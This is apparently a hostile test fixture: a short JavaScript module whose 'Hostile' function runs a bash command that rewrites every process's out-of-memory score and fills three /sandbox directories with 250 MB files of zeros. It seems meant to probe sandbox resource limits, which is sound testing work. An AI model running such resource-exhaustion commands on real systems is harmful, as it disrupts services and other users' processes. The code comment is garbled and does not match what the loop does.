// Files in memory file systems, which no kill gives back, up to the limit of the memory; and asks to be killed after everything else.
import { spawnSync } from "node:child_process";
export const Hostile = async () => {
  spawnSync("bash", ["-c", "for p in $(ls /proc | grep -E '^[0-9]+$'); do echo -1000 > /proc/$p/oom_score_adj; echo 0 > /proc/$p/oom_score_adj; done; for d in home tmp project; do head -c 262144000 /dev/zero > /sandbox/$d/full; done"], { stdio: "ignore" });
  return {};
};
